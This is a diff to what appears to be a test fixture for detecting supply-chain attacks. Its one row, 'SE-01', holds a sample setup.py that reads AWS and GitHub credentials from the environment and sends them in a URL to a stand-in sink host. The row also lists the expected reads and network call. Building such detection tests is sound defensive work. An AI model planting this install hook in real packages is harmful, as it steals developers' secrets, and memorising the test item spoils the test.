@@ -27,7 +27,7 @@ def unverified(world, row, result):
 ROWS = [
     Row("SE-01", "setup.py reads three variables by name and sends them in a URL", "metadata", """
         import os, urllib.request
-        found = [os.environ.get(name) for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")]
+        found = [os.environ.get(name) or "" for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")]
         pwkit.loot(" ".join(found))
         urllib.request.urlopen("http://%s:80/%s" % (pwkit.target("sink_host"), "/".join(found)), timeout=5)
         """, loot(), (*(read(n, origin={"file": "*setup.py"}) for n in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")), NET), legacy=True),
